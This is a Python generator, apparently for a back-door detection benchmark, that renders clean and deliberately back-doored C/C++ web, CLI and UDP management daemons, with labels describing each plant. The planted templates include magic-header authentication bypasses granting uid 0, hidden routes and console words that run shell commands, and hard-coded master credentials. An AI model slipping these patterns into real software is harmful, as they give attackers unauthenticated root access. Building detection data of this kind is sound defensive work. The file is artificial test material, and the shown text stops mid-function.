"""C and C++ shapes of the `source` family (scaffolds in source_c_tpl.py).

Each shape draws its values from the variant's random stream, renders the clean tree from the
scaffold and the planted tree with one hook filled (or one file replaced), and returns a Variant
whose label paths are exactly the files that differ. Written blind, from public write-ups of back
doors (D-Link "xmlset_roodkcableoj28840ybtide" user agent, Netgear telnetenable packets, Sercomm
port 32764, Zyxel/Fortinet hard-coded accounts, Juniper ScreenOS master password, ...).
"""
from __future__ import annotations

import random
import string

from .common import ident, word
from .source_c_tpl import CClid, CHttpd, CMgmtd, CppRest
from .source_common import (Proj, Variant, block, nest, c_bytes, c_string, doc_host, doc_ip, header_name,
                            hidden_user, magic_value, master_password, param_name, port, sha256_hex,
                            shell_payload)


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean: dict, planted: dict, note: str, variant: dict, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def _upper_ident(rng: random.Random) -> str:
    return f"{rng.choice(['MFG', 'SVC', 'DIAG', 'FAC', 'ENG', 'QA', 'RMA', 'LAB', 'FLD'])}_" \
           f"{rng.choice(['TAG', 'KEY', 'SEED', 'HINT', 'MARK', 'ID', 'CODE', 'SIG'])}"


# ============================================================================ decompiled-looking files

DECOMP_AUTH_C = r"""
@lic@
/*
 * auth.c -- recovered from the @prog@ binary shipped with firmware @version@ (the original
 * source was not part of the vendor drop). Cleaned up only as far as needed to rebuild it.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <fcntl.h>
#include <unistd.h>
#include <crypt.h>

#include "httpd.h"
#include "config.h"
#include "buildcfg.h"
#include "session.h"

static struct session DAT_sessions[MAX_SESSIONS];
static const char *PTR_s_public[] = {
    "/login.html", "/css/", "/js/", "/img/", "/favicon.ico", "/api/login", NULL
};
@dc_globals@

int is_public_path(const char *param_1)
{
  int iVar1;
  size_t sVar2;
  const char **ppcVar3;

  for (ppcVar3 = PTR_s_public; *ppcVar3 != (const char *)0x0; ppcVar3 = ppcVar3 + 1) {
    sVar2 = strlen(*ppcVar3);
    iVar1 = strncmp(param_1, *ppcVar3, sVar2);
    if (iVar1 == 0) {
      return 1;
    }
  }
  return 0;
}

static int FUN_00403a10(const char *param_1, const char *param_2, int *param_3)
{
  FILE *__stream;
  char *pcVar1;
  char *pcVar2;
  char *pcVar3;
  char *pcVar4;
  int iVar5;
  char local_118[256];

  __stream = fopen(g_cfg.passwd_file, "r");
  if (__stream == (FILE *)0x0) {
    return 0;
  }
  do {
    pcVar1 = fgets(local_118, 0x100, __stream);
    if (pcVar1 == (char *)0x0) {
      fclose(__stream);
      return 0;
    }
    pcVar1 = strtok(local_118, ":");
    pcVar2 = strtok((char *)0x0, ":");
    pcVar3 = strtok((char *)0x0, ":\n");
  } while ((((pcVar1 == (char *)0x0) || (pcVar2 == (char *)0x0)) || (pcVar3 == (char *)0x0)) ||
           (iVar5 = strcmp(pcVar1, param_1), iVar5 != 0));
  pcVar4 = crypt(param_2, pcVar2);
  iVar5 = 0;
  if (pcVar4 != (char *)0x0) {
    iVar5 = strcmp(pcVar4, pcVar2);
    if (iVar5 == 0) {
      *param_3 = atoi(pcVar3);
      iVar5 = 1;
    }
    else {
      iVar5 = 0;
    }
  }
  fclose(__stream);
  return iVar5;
}

int auth_check(struct request *param_1)
{
  int iVar1;
  const char *pcVar2;
  int iVar3;
  time_t tVar4;
  char local_50[64];

  @dc_pre@
  pcVar2 = req_header(param_1, "Cookie");
  if (pcVar2 == (const char *)0x0) {
    return 0;
  }
  iVar1 = req_cookie(param_1, SESSION_COOKIE, local_50, 0x40);
  if (iVar1 == 0) {
    return 0;
  }
  tVar4 = time((time_t *)0x0);
  for (iVar3 = 0; iVar3 < MAX_SESSIONS; iVar3 = iVar3 + 1) {
    if ((DAT_sessions[iVar3].sid[0] != '\0') && (tVar4 - DAT_sessions[iVar3].last < SESSION_TIMEOUT)) {
      iVar1 = strcmp(DAT_sessions[iVar3].sid, local_50);
      if (iVar1 == 0) {
        DAT_sessions[iVar3].last = tVar4;
        snprintf(param_1->user, 0x40, "%s", DAT_sessions[iVar3].user);
        param_1->uid = DAT_sessions[iVar3].uid;
        param_1->authenticated = 1;
        return 1;
      }
    }
  }
  return 0;
}

int auth_login(struct request *param_1, char *param_2, size_t param_3)
{
  const char *pcVar1;
  const char *pcVar2;
  int iVar3;
  int iVar4;
  int iVar5;
  int __fd;
  time_t tVar6;
  ssize_t sVar7;
  int local_24;
  unsigned char local_20[16];

  pcVar1 = req_param(param_1, "username");
  pcVar2 = req_param(param_1, "password");
  local_24 = -1;
  if ((pcVar1 == (const char *)0x0) || (pcVar2 == (const char *)0x0)) {
    return 0;
  }
  iVar3 = 0;
  @dc_login_pre@
  if (iVar3 == 0) {
    iVar3 = FUN_00403a10(pcVar1, pcVar2, &local_24);
  }
  if (iVar3 == 0) {
    log_msg("login failed for '%s' from %s", pcVar1, param_1->peer);
    return 0;
  }
  tVar6 = time((time_t *)0x0);
  for (iVar4 = 0; (iVar4 < MAX_SESSIONS &&
                  ((DAT_sessions[iVar4].sid[0] != '\0' &&
                   (tVar6 - DAT_sessions[iVar4].last < SESSION_TIMEOUT)))); iVar4 = iVar4 + 1) {
  }
  if (iVar4 == MAX_SESSIONS) {
    return 0;
  }
  memset(DAT_sessions + iVar4, 0, sizeof(struct session));
  __fd = open("/dev/urandom", 0);
  sVar7 = read(__fd, local_20, 0x10);
  close(__fd);
  if (sVar7 != 0x10) {
    return 0;
  }
  for (iVar5 = 0; iVar5 < 0x10; iVar5 = iVar5 + 1) {
    snprintf(DAT_sessions[iVar4].sid + iVar5 * 2, 3, "%02x", local_20[iVar5]);
  }
  snprintf(DAT_sessions[iVar4].user, 0x40, "%s", pcVar1);
  DAT_sessions[iVar4].uid = local_24;
  DAT_sessions[iVar4].last = tVar6;
  snprintf(param_2, param_3, "%s", DAT_sessions[iVar4].sid);
  log_msg("user '%s' logged in from %s", pcVar1, param_1->peer);
  return 1;
}

void auth_logout(struct request *param_1)
{
  int iVar1;
  int iVar2;
  char local_50[64];

  iVar1 = req_cookie(param_1, SESSION_COOKIE, local_50, 0x40);
  if (iVar1 != 0) {
    for (iVar2 = 0; iVar2 < MAX_SESSIONS; iVar2 = iVar2 + 1) {
      iVar1 = strcmp(DAT_sessions[iVar2].sid, local_50);
      if (iVar1 == 0) {
        memset(DAT_sessions + iVar2, 0, sizeof(struct session));
      }
    }
  }
  return;
}
"""

DECOMP_CLI_C = r"""
@lic@
/*
 * cli.c -- reconstructed from the vendor's @prog@ binary (no source was delivered for this
 * module). Names follow the decompiler output so the two can be compared.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
@dc_cli_includes@

#include "clid.h"

static char DAT_g_line[CLI_MAXLINE];
@dc_cli_funcs@

static int FUN_00401a40(char *param_1, char **param_2)
{
  int iVar1;
  char *pcVar2;
  char *local_18;

  iVar1 = 0;
  local_18 = (char *)0x0;
  pcVar2 = strtok_r(param_1, " \t", &local_18);
  while ((pcVar2 != (char *)0x0 && (iVar1 < 7))) {
    param_2[iVar1] = pcVar2;
    iVar1 = iVar1 + 1;
    pcVar2 = strtok_r((char *)0x0, " \t", &local_18);
  }
  param_2[iVar1] = (char *)0x0;
  return iVar1;
}

void cli_session(int param_1)
{
  int iVar1;
  int iVar2;
  const struct cli_cmd *pcVar3;
  struct cli_ctx local_68;
  char *local_48[8];

  memset(&local_68, 0, sizeof(local_68));
  local_68.fd = param_1;
  net_printf(param_1, "\r\n@Name@ @model@ console\r\n\r\n");
  iVar1 = cli_login(&local_68);
  if (iVar1 == 0) {
    return;
  }
  do {
    net_printf(param_1, "%s", CLI_PROMPT);
    iVar1 = net_readline(param_1, DAT_g_line, 0x200);
    if (iVar1 < 0) {
      return;
    }
    @dc_cli_pre@
    iVar1 = FUN_00401a40(DAT_g_line, local_48);
    if (iVar1 != 0) {
      iVar2 = strcmp(local_48[0], "exit");
      if ((iVar2 == 0) || (iVar2 = strcmp(local_48[0], "quit"), iVar2 == 0)) {
        return;
      }
      for (pcVar3 = cli_cmds; pcVar3->name != (const char *)0x0; pcVar3 = pcVar3 + 1) {
        iVar2 = strcmp(pcVar3->name, local_48[0]);
        if (iVar2 == 0) break;
      }
      if (pcVar3->name == (const char *)0x0) {
        net_printf(param_1, "%% Unknown command '%s'\r\n", local_48[0]);
      }
      else if (local_68.priv < pcVar3->priv) {
        net_printf(param_1, "%% Permission denied\r\n");
      }
      else {
        (*pcVar3->fn)(&local_68, iVar1, local_48);
      }
    }
  } while( 1 );
}
"""


# ============================================================================ src-auth-bypass

def ab_c_macro_chain(rng: random.Random, P: Proj) -> Variant:
    """Trigger #define'd in buildcfg.h, effect macro in session.h, used in auth.c."""
    s = CHttpd(rng, P)
    trig = rng.choice(["header", "user-agent", "cookie", "param"])
    val = magic_value(rng)
    k_name, k_val = _upper_ident(rng), _upper_ident(rng) + "_VAL"
    test_macro = rng.choice(["HAS_FACTORY_ACCESS", "IS_LAB_CLIENT", "SVC_PRESENT", "MFG_MODE",
                             "DIAG_CLIENT", "QA_OVERRIDE"])
    elev_macro = rng.choice(["SESSION_ELEVATE", "SESSION_PROMOTE", "SESSION_FORCE", "SESSION_GRANT"])
    if trig == "header":
        name = header_name(rng)
        defs = f"""
            #define {k_name}  {c_string(name)}
            #define {k_val}  {c_string(val)}
            #define {test_macro}(r) (req_header((r), {k_name}) != NULL && \\
                                     strcmp(req_header((r), {k_name}), {k_val}) == 0)"""
        trig_desc = f"HTTP header {name}: {val}"
    elif trig == "user-agent":
        name = "User-Agent"
        defs = f"""
            #define {k_name}  "User-Agent"
            #define {k_val}  {c_string(val)}
            #define {test_macro}(r) (req_header((r), {k_name}) != NULL && \\
                                     strstr(req_header((r), {k_name}), {k_val}) != NULL)"""
        trig_desc = f"a User-Agent containing {val!r}"
    elif trig == "cookie":
        name = word(rng, (2, 3))
        defs = f"""
            #define {k_name}  {c_string(name)}
            #define {k_val}  {c_string(val)}
            #define {test_macro}(r) (req_cookie((r), {k_name}, sid, sizeof(sid)) && strcmp(sid, {k_val}) == 0)"""
        trig_desc = f"cookie {name}={val}"
    else:
        name = param_name(rng)
        defs = f"""
            #define {k_name}  {c_string(name)}
            #define {k_val}  {c_string(val)}
            #define {test_macro}(r) (req_param((r), {k_name}) != NULL && \\
                                     strcmp(req_param((r), {k_name}), {k_val}) == 0)"""
        trig_desc = f"request parameter {name}={val}"
    elev = f"""
        #define {elev_macro}(r) do {{ (r)->authenticated = 1; (r)->uid = 0; \\
                                   snprintf((r)->user, sizeof((r)->user), "admin"); }} while (0)"""
    use = f"""
        if ({test_macro}(r)) {{
            {elev_macro}(r);
            return 1;
        }}"""
    clean = s.render()
    planted = s.render({"feat_extra": block(defs), "sess_extra": block(elev), "auth_check_pre": block(use)})
    note = (f"auth_check() in src/auth.c returns 1 as uid 0 'admin' when the request carries {trig_desc}; "
            f"the trigger is #define'd as {test_macro}/{k_val} in include/buildcfg.h and the privilege "
            f"grant is the {elev_macro} macro in include/session.h.")
    return mk(clean, planted, note, {"trigger": trig, "compare": "strcmp-macro", "effect": "uid0-session",
                                     "build": s.build})


def ab_c_decompiled_ua(rng: random.Random, P: Proj) -> Variant:
    """Ghidra-style auth.c: iVar1 = strcmp(user_agent, LIT); if (iVar1 == 0) authenticated."""
    s = CHttpd(rng, P)
    trig = rng.choice(["user-agent", "header"])
    name = "User-Agent" if trig == "user-agent" else header_name(rng)
    val = magic_value(rng)
    if rng.random() < 0.5 and trig == "user-agent":
        val = f"{word(rng)}_{word(rng, (3, 3))[::-1]}{rng.randint(10000, 99999)}{word(rng, (1, 1))}"
    cmp = rng.choice(["strcmp", "strncmp", "memcmp"])
    if cmp == "strcmp":
        test = f"iVar1 = strcmp(pcVar2, {c_string(val)});"
    elif cmp == "strncmp":
        test = f"iVar1 = strncmp(pcVar2, {c_string(val)}, {len(val)});"
    else:
        test = f"sVar3 = strlen(pcVar2);\niVar1 = -1;\nif (sVar3 == {len(val)}) {{\n  iVar1 = memcmp(pcVar2, {c_string(val)}, {len(val)});\n}}"
    pre = f"""
        pcVar2 = req_header(param_1, {c_string(name)});
        if (pcVar2 != (const char *)0x0) {{
          {nest(test, 10)}
          if (iVar1 == 0) {{
            param_1->authenticated = 1;
            param_1->uid = 0;
            snprintf(param_1->user, 0x40, "%s", "admin");
            return 1;
          }}
        }}"""
    glob = "static size_t sVar3;" if cmp == "memcmp" else ""
    from .source_common import fill
    kw = s.vars()
    clean = s.render()
    clean["src/auth.c"] = fill(DECOMP_AUTH_C, dc_pre="", dc_login_pre="", dc_globals="", **kw)
    planted = s.render()
    planted["src/auth.c"] = fill(DECOMP_AUTH_C, dc_pre=block(pre), dc_login_pre="", dc_globals=glob, **kw)
    note = (f"decompiler-style auth_check() in src/auth.c compares the {name} header with {val!r} "
            f"({cmp}) and marks the request authenticated as uid 0 without a session.")
    return mk(clean, planted, note, {"trigger": trig, "compare": cmp, "style": "decompiled",
                                     "build": s.build})


def ab_c_negguard(rng: random.Random, P: Proj) -> Variant:
    """Header loop with negative guards: if (strcasecmp(name, X) != 0) continue; ... grant."""
    s = CHttpd(rng, P)
    trig = rng.choice(["cookie-substring", "header-exact"])
    val = magic_value(rng)
    if trig == "cookie-substring":
        cname = word(rng, (1, 2))
        hname, needle = "Cookie", f"{cname}={val}"
        test = f"if (strstr(r->headers[i].value, {c_string(needle)}) == NULL)\n    continue;"
        desc = f"a Cookie header containing {needle!r}"
    else:
        hname = header_name(rng)
        test = f"if (strcmp(r->headers[i].value, {c_string(val)}) != 0)\n    continue;"
        desc = f"header {hname}: {val}"
    pre = f"""
        {{
            int i;

            for (i = 0; i < r->nheaders; i++) {{
                if (strcasecmp(r->headers[i].name, {c_string(hname)}) != 0)
                    continue;
                {nest(test, 16)}
                r->authenticated = 1;
                r->uid = 0;
                snprintf(r->user, sizeof(r->user), "root");
                return 1;
            }}
        }}"""
    clean = s.render({"auth_includes": "#include <strings.h>"})
    planted = s.render({"auth_includes": "#include <strings.h>", "auth_check_pre": block(pre)})
    note = f"auth_check() in src/auth.c walks the request headers and, on {desc}, sets uid 0 and returns authenticated (negative-guard loop)."
    return mk(clean, planted, note, {"trigger": trig, "compare": "continue-guard", "build": s.build})


def ab_c_query(rng: random.Random, P: Proj) -> Variant:
    """Hidden query parameter / URL suffix that skips the session check."""
    s = CHttpd(rng, P)
    form = rng.choice(["param-memcmp", "query-strstr", "path-suffix"])
    val = magic_value(rng)
    if form == "param-memcmp":
        pn = param_name(rng)
        pre = f"""
            {{
                const char *k = req_param(r, {c_string(pn)});

                if (k != NULL && strlen(k) == {len(val)} && memcmp(k, {c_string(val)}, {len(val)}) == 0) {{
                    r->authenticated = 1;
                    r->uid = 0;
                    snprintf(r->user, sizeof(r->user), "admin");
                    return 1;
                }}
            }}"""
        desc = f"query/form parameter {pn}={val}"
    elif form == "query-strstr":
        pn = param_name(rng)
        needle = f"{pn}={val}"
        pre = f"""
            if (strstr(r->query, {c_string(needle)}) != NULL) {{
                r->authenticated = 1;
                r->uid = 0;
                return 1;
            }}"""
        desc = f"a query string containing {needle!r}"
    else:
        suffix = rng.choice([";", "/.", "%00", "?"]) + word(rng, (1, 2)) + rng.choice([".gif", ".css", ".js", ".xml"])
        if rng.random() < 0.5:
            suffix = "/" + val + suffix
        pre = f"""
            {{
                size_t plen = strlen(r->path), slen = sizeof({c_string(suffix)}) - 1;

                if (plen > slen && strcmp(r->path + plen - slen, {c_string(suffix)}) == 0) {{
                    r->path[plen - slen] = '\\0';
                    r->authenticated = 1;
                    r->uid = 0;
                    return 1;
                }}
            }}"""
        desc = f"a request path ending in {suffix!r} (the suffix is cut off and the page served as admin)"
    clean = s.render()
    planted = s.render({"auth_check_pre": block(pre)})
    note = f"auth_check() in src/auth.c grants an uid-0 session to {desc}, without any password."
    return mk(clean, planted, note, {"trigger": form, "compare": form.split("-")[1], "build": s.build})


def ab_c_proto_session(rng: random.Random, P: Proj) -> Variant:
    """UDP management protocol: a magic session id (integer compare) is accepted as admin."""
    s = CMgmtd(rng, P)
    magic = rng.getrandbits(32) | 0x01000000
    form = rng.choice(["equal", "xor", "port+id"])
    if form == "equal":
        test = f"id == 0x{magic:08x}u"
        desc = f"session id 0x{magic:08x}"
    elif form == "xor":
        k = rng.getrandbits(32)
        test = f"(id ^ 0x{k:08x}u) == 0x{magic ^ k:08x}u"
        desc = f"session id 0x{magic:08x} (compared as id ^ 0x{k:08x} == 0x{magic ^ k:08x})"
    else:
        sp = rng.randint(1025, 65000)
        test = f"ntohs(p->addr.sin_port) == {sp} && id == 0x{magic:08x}u"
        desc = f"session id 0x{magic:08x} sent from UDP source port {sp}"
    pre = f"""
        if ({test}) {{
            p->level = LEVEL_ADMIN;
            p->session = id;
            return 1;
        }}"""
    clean = s.render({"sess_includes": "#include <arpa/inet.h>"})
    planted = s.render({"sess_includes": "#include <arpa/inet.h>", "sess_check_pre": block(pre)})
    note = (f"session_check() in src/session.c accepts {desc} as a logged-in admin session, so "
            "GET_CONFIG/REBOOT work without LOGIN.")
    return mk(clean, planted, note, {"trigger": "integer-magic", "compare": form, "proto": "udp"})


def ab_cpp_token(rng: random.Random, P: Proj) -> Variant:
    s = CppRest(rng, P)
    form = rng.choice(["header", "param", "user-agent"])
    val = magic_value(rng)
    var = rng.choice(["kServiceToken", "kFieldKey", "kLabToken", "kProvisionId"])
    if form == "header":
        hn = header_name(rng).lower()
        test = f"req.header({c_string(hn)}) == {var}"
        desc = f"header {hn}: {val}"
    elif form == "param":
        pn = param_name(rng)
        test = f"req.param({c_string(pn)}) == {var}"
        desc = f"query parameter {pn}={val}"
    else:
        test = f"req.header(\"user-agent\").find({var}) != std::string::npos"
        desc = f"a User-Agent containing {val!r}"
    anon = f"""
        namespace {{
        const std::string {var} = {c_string(val)};
        }}  // namespace
        """
    pre = f"""
        if ({test})
            return Principal{{"service", Role::Admin}};"""
    clean = s.render()
    planted = s.render({"cpp_auth_anon": block(anon), "cpp_authorize_pre": block(pre)})
    note = f"AuthService::authorize() in src/AuthService.cpp returns an Admin principal for {desc}, skipping the bearer-token check."
    return mk(clean, planted, note, {"trigger": form, "compare": "std::string==", "lang_std": "c++17"})


# ============================================================================ src-hidden-command

def hc_c_route(rng: random.Random, P: Proj) -> Variant:
    """Undocumented pre-auth route that runs a request parameter through the shell."""
    s = CHttpd(rng, P)
    fn = "h_" + ident(rng, 2)
    route = "/" + rng.choice(["api/", "cgi-bin/", "goform/", ""]) + rng.choice(["", ".", "_"]) + word(rng, (1, 3))
    pn = param_name(rng)
    sink = rng.choice(["popen", "system-file", "execl-sh"])
    if sink == "popen":
        body = f"""
            snprintf(cmd, sizeof(cmd), "%s 2>&1", c);
            fp = popen(cmd, "r");
            if (fp == NULL)
                return 0;
            n = fread(out, 1, sizeof(out) - 1, fp);
            out[n] = '\\0';
            pclose(fp);"""
        decls = "FILE *fp;\nsize_t n;"
    elif sink == "system-file":
        tmp = "/tmp/." + word(rng, (1, 2))
        body = f"""
            snprintf(cmd, sizeof(cmd), "%s > {tmp} 2>&1", c);
            system(cmd);
            fp = fopen("{tmp}", "r");
            if (fp == NULL)
                return 0;
            n = fread(out, 1, sizeof(out) - 1, fp);
            out[n] = '\\0';
            fclose(fp);"""
        decls = "FILE *fp;\nsize_t n;"
    else:
        body = f"""
            snprintf(cmd, sizeof(cmd), "%s", c);
            {{
                char *argv[] = {{ "/bin/sh", "-c", cmd, NULL }};
                run_argv(argv, out, sizeof(out));
            }}"""
        decls = ""
    func = f"""
        static int {fn}(struct request *r)
        {{
            const char *c = req_param(r, {c_string(pn)});
            char cmd[512], out[4096];
            {nest(decls, 12)}

            if (c == NULL) {{
                send_response(r->fd, 404, "text/plain", "not found");
                return 0;
            }}
            {nest(body, 12)}
            send_response(r->fd, 200, "text/plain", out);
            return 0;
        }}"""
    method = rng.choice(["GET", "POST"])
    clean = s.render()
    planted = s.render({"h_funcs": block(func),
                        "h_routes": f'{{ "{method}", {c_string(route)}, {fn}, AUTH_NONE }},'})
    note = (f"src/handlers.c registers an undocumented {method} route {route} (AUTH_NONE) whose handler "
            f"{fn}() runs the '{pn}' parameter with a shell ({sink}) and returns the output.")
    return mk(clean, planted, note, {"trigger": "hidden-route", "sink": sink, "build": s.build})


def hc_c_header_system(rng: random.Random, P: Proj) -> Variant:
    """dispatch(): a rare header's value (or a keyed parameter) goes through sprintf into system()."""
    s = CHttpd(rng, P)
    hn = header_name(rng)
    form = rng.choice(["header-cmd", "header-key+param"])
    buf = rng.choice(["g_cmdbuf", "s_line", "dbg_buf", "tmpcmd"])
    glob = f"static char {buf}[640];"
    if form == "header-cmd":
        pre = f"""
            {{
                const char *x = req_header(r, {c_string(hn)});

                if (x != NULL) {{
                    sprintf({buf}, "%s >/dev/null 2>&1 &", x);
                    system({buf});
                }}
            }}"""
        desc = f"the value of header {hn} is run with system()"
    else:
        key = magic_value(rng)
        pn = param_name(rng)
        pre = f"""
            {{
                const char *x = req_header(r, {c_string(hn)});
                const char *c = req_param(r, {c_string(pn)});

                if (x != NULL && c != NULL && strcmp(x, {c_string(key)}) == 0) {{
                    snprintf({buf}, sizeof({buf}), "%s", c);
                    system({buf});
                    send_response(r->fd, 200, "text/plain", "done");
                    return 0;
                }}
            }}"""
        desc = f"with header {hn}: {key}, the '{pn}' parameter is run with system()"
    clean = s.render()
    planted = s.render({"h_globals": glob, "h_dispatch_pre": block(pre)})
    note = f"dispatch() in src/handlers.c, before routing and before any authentication: {desc} (copied through the global {buf})."
    return mk(clean, planted, note, {"trigger": form, "sink": "sprintf+system", "build": s.build})


def hc_c_cli_negguard(rng: random.Random, P: Proj) -> Variant:
    """Console: an unlisted command word (negative guard + break) execs a shell on the socket."""
    s = CClid(rng, P)
    magic = rng.choice(["", "_", "!", "."]) + word(rng, (2, 3)) + rng.choice(["", str(rng.randint(1, 99))])
    shell = rng.choice([("/bin/sh", '"sh", "-i"'), ("/bin/busybox", '"sh", "-i"'), ("/bin/ash", '"-ash"')])
    pre = f"""
        do {{
            if (strcmp(g_line, {c_string(magic)}) != 0)
                break;
            dup2(fd, 0);
            dup2(fd, 1);
            dup2(fd, 2);
            execl("{shell[0]}", {shell[1]}, (char *)NULL);
        }} while (0);"""
    clean = s.render()
    planted = s.render({"cli_loop_pre": block(pre)})
    note = (f"cli_session() in src/cli.c: the line {magic!r} (not in the command table or help) replaces the "
            f"console with {shell[0]} on the socket, whatever the user's privilege.")
    return mk(clean, planted, note, {"trigger": "hidden-cli-word", "compare": "!=0-break",
                                     "sink": "execl-shell"})


def hc_c_udp_busybox(rng: random.Random, P: Proj) -> Variant:
    """UDP protocol: undocumented message type; body memcpy'd to a global, execve busybox sh -c."""
    s = CMgmtd(rng, P)
    mtype = rng.choice([0x7e00, 0x5a00, 0x6600, 0x4200]) | rng.randrange(256)
    key = rng.getrandbits(32)
    buf = rng.choice(["g_cmd", "g_scratch", "s_tmp", "g_diagbuf"])
    form = rng.choice(["type+key", "type"])
    test = f"type == 0x{mtype:04x}" + (f" && ntohl(h.seq) == 0x{key:08x}u" if form == "type+key" else "")
    glob = f"static char {buf}[256];\nextern char **environ;"
    pre = f"""
        if ({test}) {{
            char *argv[] = {{ "/bin/busybox", "sh", "-c", {buf}, NULL }};
            size_t n = blen < sizeof({buf}) - 1 ? blen : sizeof({buf}) - 1;

            memcpy({buf}, body, n);
            {buf}[n] = '\\0';
            if (fork() == 0) {{
                execve(argv[0], argv, environ);
                _exit(127);
            }}
            send_reply(sock, p, type, "ok", 2);
            return 0;
        }}"""
    clean = s.render()
    planted = s.render({"proto_globals": glob, "proto_pre": block(pre)})
    keydesc = f" with seq 0x{key:08x}" if form == "type+key" else ""
    note = (f"handle_packet() in src/proto.c: message type 0x{mtype:04x}{keydesc} (not in the documented "
            f"protocol) is handled before the session check; its body is memcpy'd into {buf} and run by "
            "execve(/bin/busybox sh -c).")
    return mk(clean, planted, note, {"trigger": "integer-magic", "sink": "execve-busybox-argv",
                                     "proto": "udp"})


def hc_c_decompiled_cli(rng: random.Random, P: Proj) -> Variant:
    from .source_common import fill
    s = CClid(rng, P)
    magic = rng.choice(["", "_", "#"]) + word(rng, (2, 3))
    fn = f"FUN_0040{rng.randrange(0x1000, 0xffff):04x}"
    sink = rng.choice(["popen", "execve"])
    if sink == "popen":
        funcs = f"""
            static void {fn}(int param_1, const char *param_2)
            {{
              FILE *__stream;
              size_t sVar1;
              char local_218[512];

              __stream = popen(param_2, "r");
              if (__stream != (FILE *)0x0) {{
                while (sVar1 = fread(local_218, 1, 0x1ff, __stream), sVar1 != 0) {{
                  local_218[sVar1] = '\\0';
                  net_printf(param_1, "%s", local_218);
                }}
                pclose(__stream);
              }}
              return;
            }}"""
    else:
        funcs = f"""
            static void {fn}(int param_1, const char *param_2)
            {{
              pid_t _Var1;
              int local_14;
              char *local_30[4];

              local_30[0] = "/bin/sh";
              local_30[1] = "-c";
              local_30[2] = (char *)param_2;
              local_30[3] = (char *)0x0;
              _Var1 = fork();
              if (_Var1 == 0) {{
                dup2(param_1, 1);
                dup2(param_1, 2);
                execve(local_30[0], local_30, (char **)0x0);
                _exit(0x7f);
              }}
              waitpid(_Var1, &local_14, 0);
              return;
            }}"""
    pre = f"""
        iVar2 = strncmp(DAT_g_line, {c_string(magic + ' ')}, {len(magic) + 1});
        if (iVar2 == 0) {{
          {fn}(param_1, DAT_g_line + {len(magic) + 1});
          continue;
        }}"""
    kw = dict(lic=_lic(P), prog=s.prog, Name=P.Name, model=P.model)
    inc = "#include <sys/wait.h>"
    clean = s.render()
    clean["src/cli.c"] = fill(DECOMP_CLI_C, dc_cli_pre="", dc_cli_funcs="", dc_cli_includes=inc, **kw)
    planted = s.render()
    planted["src/cli.c"] = fill(DECOMP_CLI_C, dc_cli_pre=block(pre), dc_cli_funcs=block(funcs),
                                dc_cli_includes=inc, **kw)
    note = (f"decompiler-style cli_session() in src/cli.c: a line starting with '{magic} ' is not looked up in "
            f"the command table but passed to {fn}(), which runs the rest of the line with /bin/sh ({sink}).")
    return mk(clean, planted, note, {"trigger": "hidden-cli-prefix", "compare": "iVar=strncmp",
                                     "sink": sink, "style": "decompiled"})


def hc_cpp_route(rng: random.Random, P: Proj) -> Variant:
    s = CppRest(rng, P)
    form = rng.choice(["hidden-path", "header"])
    pn = param_name(rng)
    if form == "hidden-path":
        path = "/api/v1/" + rng.choice(["", ".", "_"]) + word(rng, (1, 2))
        test = f'req.path == {c_string(path)}'
        src = f'req.param({c_string(pn)})'
        desc = f"the undocumented path {path} runs parameter '{pn}'"
    else:
        hn = header_name(rng).lower()
        test = f'!req.header({c_string(hn)}).empty()'
        src = f'req.header({c_string(hn)})'
        desc = f"any request with header {hn} runs that header's value"
    pre = f"""
        if ({test}) {{
            std::string out;
            if (FILE *p = popen(({src} + " 2>&1").c_str(), "r")) {{
                char buf[256];
                size_t n;
                while ((n = fread(buf, 1, sizeof buf, p)) > 0)
                    out.append(buf, n);
                pclose(p);
            }}
            return Response{{200, "text/plain", out}};
        }}"""
    clean = s.render()
    planted = s.render({"cpp_router_pre": block(pre)})
    note = f"Router::handle() in src/Router.cpp, before login/authorize: {desc} through popen() (a shell)."
    return mk(clean, planted, note, {"trigger": form, "sink": "popen", "lang_std": "c++17"})


# ============================================================================ src-hardcoded-credential

def hk_c_master_macro(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    pw = master_password(rng)
    macro = rng.choice(["SUPPORT_PW", "FACTORY_PASS", "RMA_PASSWD", "MFG_SECRET", "SVC_PASSWORD"])
    form = rng.choice(["any-user", "named-user"])
    if form == "any-user":
        pre = f"""
            if (strcmp(pass, {macro}) == 0) {{
                *uid = 0;
                return 1;
            }}"""
        desc = f"the password {pw!r} logs in as uid 0 with any user name"
        defs = f"#define {macro}  {c_string(pw)}"
    else:
        user = hidden_user(rng)
        umacro = macro.split("_")[0] + "_USER"
        pre = f"""
            if (strcmp(user, {umacro}) == 0 && strcmp(pass, {macro}) == 0) {{
                *uid = 0;
                return 1;
            }}"""
        desc = f"user {user!r} with password {pw!r} logs in as uid 0 (the account is not in the passwd file)"
        defs = f"#define {umacro}  {c_string(user)}\n#define {macro}  {c_string(pw)}"
    clean = s.render()
    planted = s.render({"feat_extra": defs, "cred_pre": block(pre)})
    note = (f"check_credentials() in src/auth.c (used by the form login and HTTP Basic): {desc}; "
            f"the value is #define'd as {macro} in include/buildcfg.h.")
    return mk(clean, planted, note, {"form": form, "compare": "strcmp", "where": "macro-header",
                                     "build": s.build})


def hk_c_builtin_table(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    n = rng.choice([1, 2])
    accts = [(hidden_user(rng), master_password(rng)) for _ in range(n)]
    tbl = rng.choice(["builtin_accounts", "fixed_users", "svc_accounts", "mfg_logins"])
    rows = "\n".join(f"{{ {c_string(u)}, {c_string(p)}, 0 }}," for u, p in accts)
    glob = f"""
        static const struct {{
            const char *user;
            const char *pass;
            int uid;
        }} {tbl}[] = {{
            {nest(rows, 12)}
        }};"""
    pre = f"""
        {{
            size_t i;

            for (i = 0; i < sizeof({tbl}) / sizeof({tbl}[0]); i++) {{
                if (strcmp(user, {tbl}[i].user) == 0 && strcmp(pass, {tbl}[i].pass) == 0) {{
                    *uid = {tbl}[i].uid;
                    return 1;
                }}
            }}
        }}"""
    clean = s.render()
    planted = s.render({"auth_globals": block(glob), "cred_pre": block(pre)})
    creds = ", ".join(f"{u}/{p}" for u, p in accts)
